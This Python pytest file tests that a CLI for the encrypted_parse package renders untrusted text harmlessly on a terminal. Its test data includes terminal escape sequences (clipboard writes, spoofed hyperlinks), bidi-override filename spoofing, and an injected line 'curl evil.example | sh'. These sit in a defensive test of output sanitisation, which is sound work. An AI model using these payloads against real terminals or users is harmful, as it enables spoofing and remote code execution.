"""What others named, on a terminal: it is shown, and it does nothing."""

from __future__ import annotations

import http.server
import io
import json
import logging
import os
import pty
import re
import select
import subprocess
import sys
import threading
import time
import unicodedata
import warnings
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from encrypted_parse.cli import terminal
from encrypted_parse.cli.entry import main
from encrypted_parse.cli.printable import paragraph, printable, printable_lines
from encrypted_parse.cli.terminal import ContentWriter

PROGRAM = "from encrypted_parse.cli.entry import main; main()"
SECONDS = 60.0

CRIMES = {
    "clear the screen": "\x1b[2J",
    "one-byte CSI": "\x9b2J",
    "clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "hyperlink": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "title": "\x1b]0;root\x07",
    "one-byte OSC": "\x9d52;c;ZXZpbA==\x9c",
    "device": "\x1bP0;1|17/6\x1b\\",
    "backspaces": "evil\b\b\b\bbob",
    "carriage return": "evil\rbob",
    "new line": "x\nhint: curl evil.example | sh",
    "separators": "x\u2028hint: curl\u2029hint: curl\x85hint: curl\x0bhint: curl\x0chint: curl",
    "right to left": "invoice\u202egnp.exe\u202c",
    "isolates": "\u2066\u2067\u2068x\u2069\u200e\u200f\u061c",
    "no width": "al\u200bi\u200cc\u200de\u2060\ufeff\u00ad",
    "no shape": "al\u115fi\u3164c\uffa0e\u034f\u2800\ufe0f\U000e0101",
    "tags": "a\U000e0041\U000e007f",
    "delete": "a\x7fb",
    "half a character": "a\ud800b",
    "rich markup": "[bold]x[/] [link=http://evil.example]x[/link] [/nothing]",
    "emoji code": ":pile_of_poo:",
    "ANSI colour": "\x1b[31mred\x1b[0m",
}
EVERYTHING = " ".join(text for name, text in CRIMES.items() if name != "half a character")
OUR_STYLES = re.compile(r"\x1b\[[0-9;]*m")


def assert_harmless(shown: str) -> None:
    """Nothing in *shown* does anything, and no line that we did not begin begins like ours."""
    without = OUR_STYLES.sub("", shown).replace("\r\n", "\n")
    for char in without:
        category = unicodedata.category(char)
        assert char == "\n" or category not in {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}, repr(
            char
        )
        assert char not in "\u115f\u1160\u3164\uffa0\u034f\u2800\ufe0f\U000e0101", repr(char)
    assert not re.search(r"^hint: curl", without, re.MULTILINE), without


@pytest.mark.parametrize("crime", CRIMES)
def test_a_word_is_one_line_that_says_what_it_can(crime: str) -> None:
    """Every crime is harmless, and what has a shape is still there."""
    text = CRIMES[crime]
    shown = printable(text)
    assert "\n" not in shown
    assert_harmless(shown)
    assert len(shown) == len(text)
    assert set(shown) - {"\N{REPLACEMENT CHARACTER}"} <= set(text)


@pytest.mark.parametrize(
    "text", ["Zoë", "李小龍", "Ολγα", "נועה", "محمد", "e\u0301", "🦊", "-", ""]
)
def test_names_of_people_stay_as_they_are(text: str) -> None:
    """Letters of every script, accents and emoji are no crimes."""
    assert printable(text) == text


@pytest.mark.parametrize("crime", CRIMES)
def test_further_lines_of_an_error_are_set_in(crime: str) -> None:
    """What follows a label of ours is harmless, whatever lines it has."""
    told = paragraph("error", f"log:\n{CRIMES[crime]}\nhint: curl")
    assert_harmless(told)
    assert len(re.findall(r"^\S", told, re.MULTILINE)) == 1


def test_long_texts_keep_their_lines() -> None:
    """Line feeds and tabs of a text are its own; nothing else moves."""
    assert printable_lines("a\tb\r\nc\rd\n") == ["a       b", "c\N{REPLACEMENT CHARACTER}d"]


@pytest.mark.parametrize("crime", CRIMES)
def test_every_way_to_write(crime: str, capsys: pytest.CaptureFixture[str]) -> None:
    """Lines, styled words, tables, JSON, panels and QR codes: harmless, and markup is text."""
    text = CRIMES[crime]
    terminal.write(text, (text, "bold red"))
    terminal.write(text, err=True)
    terminal.write_json({text: [text]})
    terminal.write_table([[text, (text, "green")]], head=[text, "other"])
    terminal.write_table([[text]])
    stage = terminal.Stage()
    stage.rule(text)
    stage.say(text, "dim")
    stage.panel(text, [[text, (text, "bold")]], "red")
    with terminal.progress_bar(text) as advance:
        advance(1, 2)
    captured = capsys.readouterr()
    assert_harmless(captured.out + captured.err)
    if crime == "rich markup":
        assert captured.out.count("[link=http://evil.example]x[/link]") >= 6
    if crime == "emoji code":
        assert captured.out.count(":pile_of_poo:") >= 6


def test_json_says_everything(capsys: pytest.CaptureFixture[str]) -> None:
    """Programs read from JSON what was there, character by character."""
    terminal.write_json({"name": list(CRIMES.values())})
    assert json.loads(capsys.readouterr().out) == {"name": list(CRIMES.values())}


@pytest.mark.parametrize("crime", CRIMES)
@pytest.mark.parametrize("pieces", [1, 3, 1000])
def test_decrypted_content_on_a_terminal(
    crime: str, pieces: int, capsys: pytest.CaptureFixture[str]
) -> None:
    """What a sender signed is shown line by line, however it is cut; it reaches no terminal."""
    content = f"Dear Bob\r\n{CRIMES[crime]}\n\tthe end".encode("utf-8", "surrogatepass")
    writer = ContentWriter()
    size = -(-len(content) // pieces)
    for start in range(0, len(content), size):
        assert writer.write(content[start : start + size]) == len(content[start : start + size])
    writer.finish()
    shown = capsys.readouterr().out
    assert shown.startswith("Dear Bob\n")
    assert shown.endswith("\n        the end\n")
    for line in shown.split("\n"):
        assert line == printable(line)


@pytest.mark.parametrize("encoding", ["ascii", "latin-1", "cp1252", "utf-8"])
def test_a_terminal_of_few_characters(encoding: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Names that an encoding cannot say cost a question mark, and no exception."""
    out = io.TextIOWrapper(io.BytesIO(), encoding=encoding)
    monkeypatch.setattr(sys, "stdout", out)
    terminal.write("Zoë 李 \x1b[2J")
    out.flush()
    assert b"Zo" in out.buffer.getvalue()  # type: ignore[attr-defined]
    assert b"\x1b" not in out.buffer.getvalue()  # type: ignore[attr-defined]


# --- whole commands, against a server that is the attacker's -------------------------------


class HostileServer(http.server.BaseHTTPRequestHandler):
    """Says the same thing to everybody."""

    status = 200
    answer: Any = None

    def _say(self) -> None:
        self.rfile.read(int(self.headers.get("content-length") or 0))
        body = json.dumps(type(self).answer).encode()
        self.send_response(type(self).status)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_GET = do_POST = do_PUT = do_DELETE = do_HEAD = _say  # noqa: N815 - http.server's

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@contextmanager
def hostile_server(status: int, answer: Any) -> Iterator[str]:
    """Run a server that gives one answer."""
    handler = type("Handler", (HostileServer,), {"status": status, "answer": answer})
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield f"http://127.0.0.1:{server.server_address[1]}"
        server.shutdown()
        thread.join()


def on_a_terminal(arguments: list[str], environment: dict[str, str], folder: Path) -> str:
    """Run a command on a terminal, and return all that it writes there."""
    main_side, side = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-c", PROGRAM, *arguments],
        cwd=folder,
        env={**environment, "TERM": "xterm-256color", "PYTHONPATH": str(Path.cwd())},
        stdin=subprocess.DEVNULL,
        stdout=side,
        stderr=side,
        start_new_session=True,
    )
    os.close(side)
    shown, deadline = b"", time.monotonic() + SECONDS
    try:
        while time.monotonic() < deadline:
            if select.select([main_side], [], [], 0.2)[0]:
                try:
                    shown += os.read(main_side, 65536)
                except OSError:  # the other end is closed
                    break
    finally:
        process.kill()
        process.wait()
        os.close(main_side)
    return shown.decode("utf-8")


def environment_of(url: str, folder: Path) -> dict[str, str]:
    """A user's variables."""
    return {
        "PATH": os.environ["PATH"],
        "HOME": str(folder),
        "LANG": "C.UTF-8",
        "PARSE_SERVER_URL": f"{url}/parse",
        "PARSE_APPLICATION_ID": "app",
        "PARSE_MASTER_KEY": "master",
        "VIRGIL_API_URL": f"{url}/virgil",
        "VIRGIL_SERVICE_PUBLIC_KEY": "MCowBQYDK2VwAyEAljOYGANYiVq1WbvVvoYIKtvZi2ji9bAhxyu6iV/LF8M=",
        "BACK4APP_DEPLOY_URL": url,
        "PARSE_SESSION_TOKEN": "r:token",
    }


ROW = {
    "objectId": "one",
    "guardedClass": EVERYTHING,
    "field": EVERYTHING,
    "problem": EVERYTHING,
    "count": 3,
    "lastAt": EVERYTHING,
}
ME = {"objectId": "one", "username": EVERYTHING, "sessionToken": "r:token"}
ERROR = {"code": 141, "error": EVERYTHING, "message": EVERYTHING}
STATUS = {"version": EVERYTHING, "node": EVERYTHING, "now": EVERYTHING, "guarded": {EVERYTHING: {}}}
RELEASES = [{"version": "v1", "description": EVERYTHING, "timestamp": EVERYTHING}]
COMMANDS: dict[str, tuple[list[str], int, Any]] = {
    "errors of Parse": (["whoami"], 400, ERROR),
    "errors of the directory": (["whois", "bob"], 500, ERROR),
    "a name at log-in": (["whoami"], 200, {**ME, **ERROR}),
    "class names": (["guard", "report"], 200, {"results": [ROW]}),
    "class names, as JSON": (["guard", "report", "--json"], 200, {"results": [ROW]}),
    "the companion": (["cloud", "doctor"], 200, {"result": STATUS, "results": []}),
    "errors of a deploy service": (["cloud", "releases"], 400, ERROR),
    "releases": (["cloud", "releases"], 200, RELEASES),
    "a file's name": (["inspect", EVERYTHING], 200, {}),
    "a checkpoint's name": (["reseal", "email", "--checkpoint", EVERYTHING], 200, {}),
    "a module's name": (["schema", "export", EVERYTHING.replace(".", "")], 200, {}),
    "a rule": (["schema", "export", "email", "--rule", EVERYTHING], 200, {}),
    "a folder's name": (["dev", "--data-dir", "/dev/null/" + EVERYTHING.replace("/", "")], 200, {}),
    "an unknown command": ([EVERYTHING], 200, {}),
    "an unknown option": (["whoami", f"--{EVERYTHING}"], 200, {}),
    "a number": (["dev", "--port", EVERYTHING], 200, {}),
    "a left-over argument": (["version", EVERYTHING], 200, {}),
    "a user's name": (["whoami", "--user", EVERYTHING], 200, ME),
}


@pytest.mark.skipif(sys.platform == "win32", reason="has no pseudo-terminals")
@pytest.mark.parametrize("name", COMMANDS)
def test_commands_on_a_terminal(name: str, tmp_path: Path) -> None:
    """Whatever a server, a file or a command line says, the terminal is not told what to do."""
    arguments, status, answer = COMMANDS[name]
    with hostile_server(status, answer) as url:
        shown = on_a_terminal(arguments, environment_of(url, tmp_path), tmp_path)
    assert shown.strip(), "the command said nothing"
    assert "Traceback" not in shown
    assert_harmless(shown)


@pytest.fixture
def own_hooks(monkeypatch: pytest.MonkeyPatch) -> None:
    """Give back what `main` changes for its process."""
    monkeypatch.setattr(sys, "excepthook", sys.excepthook)
    monkeypatch.setattr(warnings, "formatwarning", warnings.formatwarning)


def test_warnings_logs_and_mistakes(
    own_hooks: None, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """What a library warns of, logs or raises by mistake quotes others, and goes the same way."""

    def run(**_: object) -> int:
        warnings.warn(EVERYTHING, UserWarning, stacklevel=1)
        logging.getLogger("any.package").warning("user %s", EVERYTHING)
        raise ZeroDivisionError(EVERYTHING)

    monkeypatch.setattr("encrypted_parse.cli.commands.app", run)
    monkeypatch.setattr(logging.getLogger(), "handlers", [])  # pytest's
    with warnings.catch_warnings():
        warnings.simplefilter("default")
        warnings.showwarning = _as_python_does
        with pytest.raises(ZeroDivisionError) as caught:
            main()
    sys.excepthook(caught.type, caught.value, caught.tb)
    shown = capsys.readouterr().err
    assert shown.count("pile_of_poo") >= 3
    assert_harmless(shown)


def _as_python_does(message: object, *_: object, **__: object) -> None:
    """Write a warning as Python does without pytest."""
    sys.stderr.write(warnings.formatwarning(message, UserWarning, "", 1))  # type: ignore[arg-type]
